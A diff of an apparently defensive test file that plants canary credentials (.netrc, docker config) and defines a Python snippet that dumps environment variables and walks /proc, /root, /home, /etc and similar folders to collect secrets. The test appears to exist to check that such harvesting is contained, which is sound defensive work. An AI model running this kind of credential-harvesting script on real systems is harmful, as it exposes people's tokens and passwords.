@@ -25,7 +25,7 @@ const PROXY_LOGIN = `Basic ${Buffer.from(`proxy-user:${CANARIES.proxy}`).toStrin
 const NOSY = [
   "import os, urllib.request",
   "seen = [repr(dict(os.environ))]",
-  "for folder in ['/proc', '/root', '/home', '/tmp', '/etc', '/run', '/opt', '/var/tmp', '/dev']:",
+  "for folder in ['/proc', '/root', '/home', '/tmp', '/etc', '/run', '/opt', '/var/tmp', '/dev/surelayer', '/dev/shm']:",
   "    for path, folders, names in os.walk(folder):",
   "        folders[:] = [one for one in folders if one not in ('task', 'map_files', 'fd', 'fdinfo')]",
   "        for name in names:",
@@ -87,7 +87,7 @@ beforeAll(async () => {
   });
   await index.start();
   await place.write("home/.netrc", `machine unused.example login me password ${CANARIES.netrc}\n`);
-  const auth = Buffer.from(`me:${CANARIES.HF_TOKEN}`).toString("base64");
+  const auth = Buffer.from(`me:${CANARIES.docker}`).toString("base64");
   await place.write("docker/config.json", { auths: { [index.address]: { auth } } });
   env = {
     PIP_INDEX_URL: index.url.replace(CANARIES.index, encodeURIComponent(CANARIES.index)),
